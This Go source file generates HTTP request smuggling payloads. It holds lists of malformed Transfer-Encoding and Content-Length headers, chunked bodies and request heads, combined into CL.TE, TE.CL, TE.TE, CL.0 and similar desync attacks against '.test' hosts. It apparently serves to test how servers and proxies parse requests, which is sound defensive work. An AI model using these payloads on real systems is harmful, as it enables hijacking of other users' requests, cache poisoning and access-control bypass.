package square

import (
	"fmt"
	"strings"
)

// attack is what one client sends over one connection. In it {H} stands for the
// host, {A} for the target of the request and {S} for that of the smuggled one.
type attack struct{ name, text string }

// hidden is a whole request, open one whose end swallows the next client's.
const (
	hidden = "GET {S} HTTP/1.1\r\nHost: {H}\r\nX-I: 1\r\n\r\n"
	open   = "GET {S} HTTP/1.1\r\nX-Swallow: "
)

// codings are lines that some take for "Transfer-Encoding: chunked".
var codings = []string{
	"Transfer-Encoding: chunked", "Transfer-Encoding : chunked", "Transfer-Encoding:chunked", "Transfer-Encoding:\tchunked", "Transfer-Encoding\t: chunked",
	"Transfer-Encoding: \vchunked", "Transfer-Encoding: \fchunked", "\vTransfer-Encoding: chunked", " Transfer-Encoding: chunked", "\tTransfer-Encoding: chunked",
	"X: y\nTransfer-Encoding: chunked", "X: y\rTransfer-Encoding: chunked", "X: y\r\rTransfer-Encoding: chunked", "Transfer-Encoding\n: chunked",
	"Transfer-Encoding:\n chunked", "Transfer-Encoding:\r\n chunked", "Transfer-Encoding:\r\n\tchunked", "Transfer-Encoding: x\r\n chunked",
	"Transfer-Encoding: xchunked", "Transfer-Encoding: chunkedx", "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked",
	"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
	"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'", "Transfer-Encoding: chunked;q=1",
	"Transfer-Encoding: chunked; x", "Transfer-Encoding: CHUNKED", "transfer-encoding: Chunked", "Transfer-Encoding: chunked\x00", "Transfer-Encoding: \x00chunked",
	"Transfer_Encoding: chunked", "Transfer Encoding: chunked", "Transfer-Encoding\x00: chunked", "Transfer-Encoding\x80: chunked", "\x80Transfer-Encoding: chunked",
	"Tran\rsfer-Encoding: chunked", "Transfer-Encoding: ch\runked", "Transfer-Encoding: chunked\r", "Transfer-Encoding: chunked ", "Transfer-Encoding: chunked\t",
	"Transfer-Encoding: chunked,", "Transfer-Encoding: ,chunked", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: \r\nTransfer-Encoding: chunked",
	"Transfer-Encoding: chunked\r\nTransfer-Encoding: ", "Transfer-Encoding: identity", "Transfer-Encoding:", "Transfer-Encoding: c\u212bhunked", "Transfer-Encoding: chun\u212aed",
	"Content-Encoding: chunked", "TE: chunked", "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked", "Connection: close, transfer-encoding\r\nTransfer-Encoding: chunked",
	"Foo: bar\r\n\rTransfer-Encoding: chunked", "X:\x01\r\nTransfer-Encoding: chunked", ":\r\nTransfer-Encoding: chunked", "X\r\nTransfer-Encoding: chunked",
}

// lengths are lines that some take for the length N of the body, some for 0.
var lengths = []string{
	"Content-Length: {N}\r\nContent-Length: 0", "Content-Length: 0\r\nContent-Length: {N}", "Content-Length: {N}, 0", "Content-Length: 0, {N}", "Content-Length: {N},{N}",
	"Content-Length: +{N}", "Content-Length: -{N}", "Content-Length: 0x{N}", "Content-Length: {N} ", "Content-Length: {N}\t", "Content-Length: {N}\v", "Content-Length: 0{N}",
	"Content-Length : {N}", "Content-Length\t: {N}", " Content-Length: {N}", "X: y\nContent-Length: {N}", "X: y\rContent-Length: {N}", "Content_Length: {N}",
	"Content-Length: {N}.0", "Content-Length: {N}e0", "Content-Length: {N};", "Content-Length: \"{N}\"", "Content-Length: {N}\x00", "Content-Length: 0\r\n {N}",
	"Content-Length:\r\n {N}", "Content-Length: ", "Content-Length: {N}\r\nContent-Length: ", "Content-Length: \r\nContent-Length: {N}", "Content-Length: 18446744073709551616",
	"Content-Length: 18446744073709551{N}", "Content-Length: ٤{N}", "Connection: content-length\r\nContent-Length: {N}", "Connection: close, Content-Length\r\nContent-Length: {N}",
	"Content-Length\x00: {N}", "Content-Length: {N} {N}", "Content-Length: {N}\r\nContent-Length : 0", "content-length: {N}\r\ncOnTeNt-LeNgTh: 0",
	"Expect: 100-continue\r\nContent-Length: {N}", "Expect: x\r\nContent-Length: {N}", "Expect: y 100-continue\r\nContent-Length: {N}",
	"Upgrade: h2c\r\nConnection: Upgrade\r\nContent-Length: {N}", "Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: {N}",
}

// chunkBodies are bodies after whose end some see a request.
var chunkBodies = []string{
	"0\r\n\r\n", "0\n\n", "0\r\n\n", "0\n\r\n", "0\r\r", "0 \r\n\r\n", "0;\r\n\r\n", "0;x=y\r\n\r\n", "0;x\n\r\n\r\n", "0;x\ny\r\n\r\n", "0;\"\r\n\"\r\n\r\n", "00\r\n\r\n", "0x0\r\n\r\n", "-0\r\n\r\n", "+0\r\n\r\n",
	" 0\r\n\r\n", "\r\n0\r\n\r\n", "0\r\nX: y\r\n\r\n", "0\r\nContent-Length: 5\r\n\r\n", "0\r\n X\r\n\r\n", "0\r\nX\r\n\r\n", "0\r\n:\r\n\r\n", "0\r\nX: y\n\r\n", "0\r\nTransfer-Encoding: chunked\r\n\r\n",
	"2\r\nab\r\n0\r\n\r\n", "2\r\nab0\r\n\r\n", "2\r\nab\n0\r\n\r\n", "2\nab\n0\n\n", "2\r\nabX\r\n0\r\n\r\n", "2\r\nab\r0\r\n\r\n", "2;\nxx\r\nab\r\n0\r\n\r\n", "2;a\r\nab\r\n0\r\n\r\n", "0x2\r\nab\r\n0\r\n\r\n",
	"2 \r\nab\r\n0\r\n\r\n", "+2\r\nab\r\n0\r\n\r\n", "02\r\nab\r\n0\r\n\r\n", "FFFFFFFFFFFFFFFE\r\nab\r\n0\r\n\r\n", "10000000000000002\r\nab\r\n0\r\n\r\n", "2,\r\nab\r\n0\r\n\r\n", "2\r\nab\r\n0\r\n",
	"g\r\n\r\n", "\r\n\r\n", "2\r\n", "2;ext=\"a\r\nb\"\r\nab\r\n0\r\n\r\n", "2;" + strings.Repeat("e", 300) + "\r\nab\r\n0\r\n\r\n",
}

// heads are whole heads with something odd in them, a hidden request behind them.
var heads = []string{
	"GET {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n", "HEAD {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n", "DELETE {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n",
	"OPTIONS {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.0\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.1\nHost: {H}\nContent-Length: {N}\n\n",
	"POST {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\n\r\n", "POST {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\n", "POST {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\r\n\r\n",
	"POST {A} HTTP/1.1\r\nHost: {H}\r\nX: y\r\n\x00\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n \r\n\r\n", "POST {A} HTTP/1.1\r\nHost: {H}\r\n\tContent-Length: {N}\r\n\r\n",
	"POST  {A}  HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.1 \r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.1\r\n Host: {H}\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n",
	"\r\n\r\nPOST {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.1\r\nHost: {H}\r\nHost: other\r\nContent-Length: {N}\r\n\r\n",
	"POST http://{H}{A} HTTP/1.1\r\nHost: other\r\nContent-Length: {N}\r\n\r\n", "POST {A}\rHTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.1\rHost: {H}\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n",
	"POST {A} HTTP/1.1\r\nHost: {H}\r\nX: a\r\nb\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.1\r\nHost: {H}\r\nX: {\r\n\r\nContent-Length: {N}\r\n\r\n", "TRACE {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n",
	"CONNECT {H}:80 HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.1\r\nHost: {H}\r\nX: a\vContent-Length: 0\r\nContent-Length: {N}\r\n\r\n",
	"POST {A} HTTP/1.1\r\nHost: {H}\r\nConnection: close\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.1\r\nHost: {H}\r\nKeep-Alive: x\r\nConnection: keep-alive, Content-Length, Host\r\nContent-Length: {N}\r\n\r\n",
	"POST {A}?x\r\n HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n\r\n", "POST {A} HTTP/1.1\r\nHost: {H}\r\nX: y\r\n\r\r\nContent-Length: {N}\r\n\r\n",
}

// hostOf is the host whose requests go to the service of a dialect.
func hostOf(i int) string { return fmt.Sprintf("h%d.test", i) }

// attacks are all of them: CL.TE, TE.CL and TE.TE with each coding, CL.CL, CL.0,
// chunks, heads.
func attacks() (out []attack) {
	add := func(kind string, i int, format string, body string) {
		out = append(out, attack{fmt.Sprintf("%s %d", kind, i), strings.ReplaceAll(format, "{N}", fmt.Sprint(sized(body))) + body})
	}
	for i, c := range codings {
		for _, rest := range []string{hidden, open} {
			add("CL.TE", i, "POST {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n"+c+"\r\n\r\n", "0\r\n\r\n"+rest)
			add("TE.CL first", i, "POST {A} HTTP/1.1\r\nHost: {H}\r\n"+c+"\r\nContent-Length: 4\r\n\r\n", fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", sized(rest), rest))
		}
		add("TE", i, "POST {A} HTTP/1.1\r\nHost: {H}\r\n"+c+"\r\n\r\n", fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", sized(hidden), hidden))
		add("TE.TE", i, "POST {A} HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n"+c+"\r\n\r\n", fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", sized(hidden), hidden))
		add("GET CL.TE", i, "GET {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {N}\r\n"+c+"\r\n\r\n", "0\r\n\r\n"+hidden)
	}
	for i, l := range lengths {
		add("CL.CL", i, "POST {A} HTTP/1.1\r\nHost: {H}\r\n"+l+"\r\n\r\n", hidden)
		add("CL.CL open", i, "POST {A} HTTP/1.1\r\nHost: {H}\r\n"+l+"\r\n\r\n", open)
		add("CL.0", i, "GET {A} HTTP/1.1\r\nHost: {H}\r\n"+l+"\r\n\r\n", hidden)
	}
	for i, b := range chunkBodies {
		add("chunks", i, "POST {A} HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n"+b, open)
		add("chunks before a request", i, "POST {A} HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n"+b, hidden)
		add("chunks and a length", i, "POST {A} HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\nContent-Length: {N}\r\n\r\n", b+hidden)
	}
	for i, h := range heads {
		add("head", i, h, hidden)
		add("head open", i, h, open)
	}
	return out
}

// sized is the length of a text once its targets and hosts are there, which have
// one length each.
func sized(text string) int { return len(filled(text, hostOf(0), "0000")) }

// filled puts a host and targets into an attack's text.
func filled(text, host, id string) string {
	return strings.NewReplacer("{H}", host, "{A}", "/a"+id, "{S}", "/s"+id).Replace(text)
}
